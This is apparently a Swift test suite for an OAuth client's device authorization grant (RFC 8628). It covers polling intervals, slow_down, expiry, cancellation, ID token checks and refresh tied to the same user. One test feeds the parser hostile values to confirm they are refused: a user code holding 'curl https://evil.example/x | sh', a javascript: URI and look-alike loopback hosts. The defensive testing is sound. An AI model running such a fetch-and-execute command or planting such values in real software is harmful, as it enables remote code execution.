import AuthCrypto
import Foundation
import HTTPTransport
import SystemPlumbing
import TestSupport
import Testing
import TokenVerification

@testable import CognitoAuth

/// The device authorization grant (RFC 8628) against a stub: the request, the bounded reading of its answer, the
/// polling's pace (the whole interval after each answer, 5 s more on slow_down, never past expires_in), each outcome,
/// cancellation, the optional ID token verified when it comes and userinfo standing in when it does not. A clock
/// that only counts keeps the tests from waiting.
@Suite struct DeviceGrantTests {
    static let issuer = OAuthClientRequestTests.issuer
    static let deviceURL = "https://issuer.example/device_authorization"
    static let tokenURL = "https://issuer.example/token"
    static let userInfoURL = "https://issuer.example/userinfo"
    static let deviceCode = "device-code-secret-42"

    /// A clock whose sleeps only advance it, recording each.
    final class CountingClock: Sendable {
        private let state = Locked<(now: Double, sleeps: [Int])>((0, []))
        let cancelAfter: Int?

        init(cancelAfter: Int? = nil) { self.cancelAfter = cancelAfter }

        var sleeps: [Int] { state.withLock { $0.sleeps } }

        var polling: DevicePollingClock {
            DevicePollingClock(
                now: { [self] in state.withLock { $0.now } },
                sleep: { [self] seconds throws(CancellationError) in
                    let count = state.withLock { state in
                        state.sleeps.append(seconds)
                        state.now += Double(seconds)
                        return state.sleeps.count
                    }
                    if let cancelAfter, count > cancelAfter { throw CancellationError() }
                })
        }
    }

    static func client(transport: URLStubTransport, userInfo: Bool = true) throws -> OAuthClient {
        let endpoints = OAuthEndpoints(
            authorization: "https://issuer.example/authorize", token: tokenURL,
            userInfo: userInfo ? userInfoURL : nil, deviceAuthorization: deviceURL)
        let configuration = OAuthClientConfiguration(
            endpoints: endpoints, clientId: OAuthClientRequestTests.clientId, redirectURI: nil,
            operationDeadline: .seconds(30), retryPolicy: OAuthClientRequestTests.fastRetries)
        let verifier = TokenVerifier(
            issuer: issuer, clientId: OAuthClientRequestTests.clientId,
            keys: JWKSCache(url: URLStubTransport.jwksURL, transport: transport), rules: .openIDConnect)
        return try OAuthClient(
            configuration: configuration, transport: transport, verifier: verifier,
            now: { Date().timeIntervalSince1970 },
            jitter: { 0.5 })
    }

    static func authorizationAnswer(_ extra: [String: Any] = [:]) -> HTTPResponse {
        var body: [String: Any] = [
            "device_code": deviceCode, "user_code": "WDJB-MJHT", "verification_uri": "https://issuer.example/device",
            "verification_uri_complete": "https://issuer.example/device?user_code=WDJB-MJHT",
            "expires_in": 600, "interval": 2,
        ]
        body.merge(extra) { $1 }
        return URLStubTransport.json(body.filter { !($0.value is NSNull) })
    }

    static func refusal(_ code: String) -> HTTPResponse {
        URLStubTransport.json(["error": code, "error_description": "about \(deviceCode)"], status: 400)
    }

    /// The token endpoint answering `answers` in turn (the last one again and again), userinfo naming the user.
    static func server(polls answers: [HTTPResponse]) -> URLStubTransport {
        let count = Locked(0)
        return URLStubTransport(jwks: OAuthClientRequestTests.jwks) { request in
            switch request.url {
            case deviceURL: return authorizationAnswer()
            case userInfoURL:
                return URLStubTransport.json(["sub": "user-7", "preferred_username": "kim", "email": "kim@example.com"])
            default:
                let index = count.withLock { count in
                    defer { count += 1 }
                    return min(count, answers.count - 1)
                }
                return answers[index]
            }
        }
    }

    static func granted(idToken: String? = nil) -> HTTPResponse {
        var body: [String: Any] = [
            "access_token": "opaque-access-1", "token_type": "Bearer", "expires_in": 3600, "refresh_token": "refresh-1",
        ]
        body["id_token"] = idToken
        return URLStubTransport.json(body)
    }

    @Test func theRequestCarriesTheClientAndScopesAndItsAnswerIsRead() async throws {
        let transport = Self.server(polls: [Self.granted()])
        let authorization = try await Self.client(transport: transport).deviceAuthorization()
        let sent = try #require(transport.requests.first)
        #expect(sent.url == Self.deviceURL && sent.method == "POST")
        #expect(sent.form == ["client_id": OAuthClientRequestTests.clientId, "scope": "openid email profile"])
        #expect(
            authorization.userCode == "WDJB-MJHT" && authorization.verificationURI == "https://issuer.example/device")
        #expect(authorization.verificationURIComplete == "https://issuer.example/device?user_code=WDJB-MJHT")
        #expect(authorization.expiresIn == 600 && authorization.interval == 2)
        expectSecret(Self.deviceCode, equals: authorization.deviceCode.utf8String, "the device code")
        expectNoSecrets(in: "\(authorization)", [Self.deviceCode])
    }

    @Test func anAnswerOutOfBoundsIsRefused() async throws {
        let unusable: [[String: Any]] = [
            ["interval": 0], ["interval": 301], ["interval": 2.5], ["interval": "5"], ["expires_in": 0],
            ["expires_in": 86_401],
            ["expires_in": NSNull()], ["user_code": "AB\u{1B}[2J"],
            ["verification_uri": "http://issuer.example/device"],
            ["verification_uri_complete": "https://issuer.example/device?\u{07}"], ["device_code": ""],
        ]
        for extra in unusable {
            let answer = Self.authorizationAnswer(extra)
            let client = try Self.client(transport: URLStubTransport { _ in answer })
            let error = await caughtOAuthError { () async throws(OAuthError) in try await client.deviceAuthorization() }
            guard case .invalidResponse(let operation, _)? = error else {
                Issue.record("\(extra): \(String(describing: error))")
                continue
            }
            #expect(operation == OAuthOperation.deviceAuthorization.rawValue)
        }
        let withoutInterval = Self.authorizationAnswer(["interval": NSNull()])
        let defaulted = try await Self.client(transport: URLStubTransport { _ in withoutInterval })
            .deviceAuthorization()
        #expect(defaulted.interval == 5)
    }

    /// A user code that is more than a code, a verification URI that is not https (or loopback http from a loopback
    /// http endpoint), or a complete URI at another host: refused with a reason that carries none of the answer's text.
    @Test func aHostileAnswerIsRefusedWithoutItsText() throws {
        let hostile: [(field: String, value: String)] = [
            ("user_code", "ABCD-EFGH then run: curl https://evil.example/x | sh"), ("user_code", "ABCD_EFGH"),
            ("user_code", "ABCD EFGH"),
            ("user_code", "ÄBCD-EFGH"), ("user_code", String(repeating: "A", count: 33)), ("user_code", "AB\u{202E}CD"),
            ("verification_uri", "http://evil.example/device"), ("verification_uri", "http://127.0.0.1:8000/device"),
            ("verification_uri", "http://localhost/device"),
            ("verification_uri", "http://127.0.0.1.evil.example/device"),
            ("verification_uri", "javascript:alert(1)//evil"),
            ("verification_uri", "https://evil.example/device then run: sh"),
            ("verification_uri", "https://user@evil.example/device"), ("verification_uri", "ftp://evil.example/device"),
            ("verification_uri_complete", "https://evil.example/device?user_code=WDJB-MJHT"),
            ("verification_uri_complete", "http://issuer.example/device?user_code=WDJB-MJHT"),
        ]
        for (field, value) in hostile {
            var body =
                [
                    "device_code": Self.deviceCode, "user_code": "WDJB-MJHT",
                    "verification_uri": "https://issuer.example/device",
                    "expires_in": 600,
                ] as [String: Any]
            body[field] = value
            let bytes = Array(try JSONSerialization.data(withJSONObject: body))
            do {
                let accepted = try OAuthDeviceAuthorization(body: bytes, endpoint: Self.deviceURL)
                Issue.record("\(field) \(value) was accepted: \(accepted)")
            } catch {
                guard case .invalidResponse(let operation, let reason) = error else {
                    Issue.record("\(field): \(error)")
                    continue
                }
                #expect(operation == OAuthOperation.deviceAuthorization.rawValue)
                for word in ["evil", "curl", "127.0.0.1", "localhost", "ABCD", "AAAA", "javascript", "user@"]
                where value.contains(word) {
                    #expect(!"\(error)".contains(word), "\(field): \(error)")
                }
                #expect(!reason.contains(value))
            }
        }
        let longest = String(repeating: "B", count: 32)
        let fine = try OAuthDeviceAuthorization(
            body: Array(
                #"{"device_code":"d","user_code":"\#(longest)","verification_uri":"https://Issuer.example:8443/device","expires_in":60}"#
                    .utf8),
            endpoint: Self.deviceURL)
        #expect(fine.userCode == longest && fine.verificationHost == "issuer.example:8443")
    }

    /// Plain http verification URIs only at a loopback address, and only from a device endpoint that is loopback http
    /// itself (a local test provider); parsed, so a host that merely starts like a loopback address is no loopback.
    @Test func aLoopbackHTTPVerificationURIComesOnlyFromALoopbackHTTPEndpoint() throws {
        func answer(_ uri: String) -> [UInt8] {
            Array(#"{"device_code":"d","user_code":"WDJB-MJHT","verification_uri":"\#(uri)","expires_in":60}"#.utf8)
        }
        for endpoint in ["http://127.0.0.1:9000/device", "http://[::1]:9000/device", "http://localhost:9000/device"] {
            for uri in [
                "http://127.0.0.1:9000/device", "http://127.9.8.7/device", "http://[::1]/device",
                "http://localhost:9000/device",
            ] {
                #expect(throws: Never.self, "\(uri) from \(endpoint)") {
                    _ = try OAuthDeviceAuthorization(body: answer(uri), endpoint: endpoint)
                }
            }
            for uri in ["http://evil.example/device", "http://127.0.0.1.evil.example/device", "http://10.0.0.1/device"]
            {
                #expect(throws: OAuthError.self, "\(uri) from \(endpoint)") {
                    _ = try OAuthDeviceAuthorization(body: answer(uri), endpoint: endpoint)
                }
            }
        }
        for endpoint in [
            "https://127.0.0.1:9000/device", "https://issuer.example/device", "http://127.0.0.1.evil.example/device",
        ] {
            #expect(throws: OAuthError.self, "from \(endpoint)") {
                _ = try OAuthDeviceAuthorization(body: answer("http://127.0.0.1:9000/device"), endpoint: endpoint)
            }
        }
    }

    /// Waits the whole interval before each poll, 5 s more from each slow_down on, and sends the device code.
    @Test func pollingWaitsTheIntervalAndSlowsDownWhenAsked() async throws {
        let pending = Self.refusal("authorization_pending")
        let transport = Self.server(polls: [pending, Self.refusal("slow_down"), pending, Self.granted()])
        let client = try Self.client(transport: transport)
        let clock = CountingClock()
        let tokens = try await client.deviceTokens(for: try await client.deviceAuthorization(), clock: clock.polling)
        #expect(clock.sleeps == [2, 2, 7, 7])
        let polls = transport.requests.filter { $0.url == Self.tokenURL }
        #expect(polls.count == 4)
        #expect(
            polls.allSatisfy {
                $0.form == [
                    "grant_type": "urn:ietf:params:oauth:grant-type:device_code", "device_code": Self.deviceCode,
                    "client_id": OAuthClientRequestTests.clientId,
                ]
            })
        #expect(
            tokens.tokens.identity == VerifiedIdentity(username: "kim", subject: "user-7", email: "kim@example.com"))
        #expect(tokens.tokens.idToken == nil && tokens.tokens.idTokenExpiresAt == nil)
        #expect(transport.requests.last?.header("Authorization") == "Bearer opaque-access-1")
    }

    @Test func anIDTokenIsVerifiedWhenItComes() async throws {
        let good = try OAuthClientRequestTests.idToken(nonce: nil)
        let client = try Self.client(transport: Self.server(polls: [Self.granted(idToken: good)]))
        let tokens = try await client.deviceTokens(
            for: try await client.deviceAuthorization(), clock: CountingClock().polling)
        expectSecret(good, equals: tokens.tokens.idToken?.utf8String ?? "", "the ID token")
        #expect(tokens.tokens.identity.subject == OAuthClientRequestTests.subject)

        let forClientB = try OAuthClientRequestTests.idToken(nonce: nil, extra: ["aud": "another-client"])
        let rejecting = try Self.client(transport: Self.server(polls: [Self.granted(idToken: forClientB)]))
        guard case .failed(.tokenRejected)? = await Self.ending(rejecting, clock: CountingClock()) else {
            Issue.record("a token for another client was not rejected")
            return
        }
    }

    @Test func eachEndingIsTyped() async throws {
        let cases: [(HTTPResponse, DeviceGrantError)] = [
            (Self.refusal("access_denied"), .denied),
            (Self.refusal("expired_token"), .expired(afterSeconds: 600)),
        ]
        for (answer, expected) in cases {
            let client = try Self.client(
                transport: Self.server(polls: [Self.refusal("authorization_pending"), answer]))
            let ending = await Self.ending(client, clock: CountingClock())
            #expect(ending == expected)
            expectNoSecrets(in: "\(String(describing: ending))", [Self.deviceCode])
        }
        let invalid = try Self.client(transport: Self.server(polls: [Self.refusal("invalid_grant")]))
        guard
            case .failed(.refused(.invalidGrant, let description, _, .deviceCode))? = await Self.ending(
                invalid, clock: CountingClock())
        else {
            Issue.record("invalid_grant was not passed on")
            return
        }
        #expect(!description.contains(Self.deviceCode), "\(description)")
    }

    /// At expires_in it stops asking, whatever the server says; a cancelled wait ends at once.
    @Test func itEndsAtExpiryAndWhenCancelled() async throws {
        let transport = Self.server(polls: [Self.refusal("authorization_pending")])
        let client = try Self.client(transport: transport)
        let clock = CountingClock()
        #expect(await Self.ending(client, clock: clock) == .expired(afterSeconds: 600))
        #expect(clock.sleeps.reduce(0, +) == 600 && clock.sleeps.allSatisfy { $0 == 2 })
        #expect(transport.requests.filter { $0.url == Self.tokenURL }.count == 299)

        let cancelled = Self.server(polls: [Self.refusal("authorization_pending")])
        #expect(
            await Self.ending(try Self.client(transport: cancelled), clock: CountingClock(cancelAfter: 3)) == .cancelled
        )
        #expect(cancelled.requests.filter { $0.url == Self.tokenURL }.count == 3)
    }

    @Test func withoutAnIDTokenOrUserinfoNobodyIsSignedIn() async throws {
        let client = try Self.client(transport: Self.server(polls: [Self.granted()]), userInfo: false)
        guard case .failed(.invalidResponse(_, let reason))? = await Self.ending(client, clock: CountingClock()) else {
            Issue.record("tokens without a user were accepted")
            return
        }
        #expect(reason.contains("no userinfo endpoint"))
    }

    /// A session that never had an ID token stays its user's: userinfo, or a new ID token, must name the same subject.
    @Test func aSessionWithoutAnIDTokenIsRefreshedOnlyForTheSameUser() async throws {
        let client = try Self.client(transport: Self.server(polls: [Self.granted()]))
        let refreshed = try await client.refresh(
            refreshToken: SecretBytes(utf8: "refresh-0"), previousSubject: "user-7")
        #expect(
            refreshed.tokens.identity.subject == "user-7" && refreshed.tokens.refreshToken.utf8String == "refresh-1")
        let error = await caughtOAuthError { () async throws(OAuthError) in
            try await client.refresh(refreshToken: SecretBytes(utf8: "refresh-0"), previousSubject: "someone-else")
        }
        guard case .invalidResponse(_, let reason)? = error else {
            Issue.record("got \(String(describing: error))")
            return
        }
        #expect(reason.contains("another user"), "\(reason)")

        let withIDToken = try Self.client(
            transport: Self.server(polls: [Self.granted(idToken: try OAuthClientRequestTests.idToken(nonce: nil))]))
        let other = await caughtOAuthError { () async throws(OAuthError) in
            try await withIDToken.refresh(refreshToken: SecretBytes(utf8: "refresh-0"), previousSubject: "user-7")
        }
        guard case .invalidResponse(_, let otherReason)? = other else {
            Issue.record("got \(String(describing: other))")
            return
        }
        #expect(otherReason.contains("another user"), "\(otherReason)")
    }

    @Test func discoveryNamesTheDeviceEndpointAndItMustBeHTTPS() throws {
        let document =
            #"{"issuer":"https://op.example","authorization_endpoint":"https://op.example/auth","token_endpoint":"https://op.example/token","jwks_uri":"https://op.example/keys","device_authorization_endpoint":"https://op.example/device"}"#
        #expect(
            try OAuthEndpoints(discoveryDocument: Data(document.utf8)).deviceAuthorization
                == "https://op.example/device")
        let insecure = document.replacingOccurrences(of: "https://op.example/device", with: "http://op.example/device")
        #expect(throws: OAuthError.self) { try OAuthEndpoints(discoveryDocument: Data(insecure.utf8)) }
    }

    /// How the polling ended; nil (and an issue) when it returned tokens.
    static func ending(_ client: OAuthClient, clock: CountingClock) async -> DeviceGrantError? {
        do {
            let authorization = try await client.deviceAuthorization()
            _ = try await client.deviceTokens(for: authorization, clock: clock.polling)
            Issue.record("the polling returned tokens")
        } catch let error as DeviceGrantError {
            return error
        } catch {
            Issue.record("the device authorization failed: \(error)")
        }
        return nil
    }
}
